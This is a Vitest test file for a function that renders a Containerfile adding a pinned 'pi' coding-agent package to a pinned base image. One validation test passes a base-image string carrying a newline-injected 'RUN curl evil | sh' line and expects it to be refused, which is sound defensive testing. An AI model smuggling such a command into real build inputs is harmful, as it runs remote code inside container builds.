import { describe, expect, it } from "vitest";
import { PI_PACKAGE, PI_VERSION, renderPaperclipContainerfile } from "./renderPaperclipContainerfile";
import { PAPERCLIP_IMAGE } from "./paperclipRelease";

describe("renderPaperclipContainerfile", () => {
  it("layers the pinned pi coding agent on the pinned upstream image", () => {
    const text = renderPaperclipContainerfile(PAPERCLIP_IMAGE);
    expect(text).toMatchSnapshot();
    expect(text).toContain(`FROM ${PAPERCLIP_IMAGE}\n`);
    // The package whose bin is `pi` (what Paperclip's pi_local adapter runs); `@mariozechner/pi` is pi-pods.
    expect(PI_PACKAGE).toBe("@mariozechner/pi-coding-agent");
    expect(text).toContain(`${PI_PACKAGE}@${PI_VERSION} `);
  });

  it("refuses a base or version that is not one", () => {
    expect(() => renderPaperclipContainerfile("ghcr.io/x:1\nRUN curl evil | sh")).toThrow(/invalid base image/);
    expect(() => renderPaperclipContainerfile("ghcr.io/x:1", "latest")).toThrow(/invalid pi version/);
  });
});
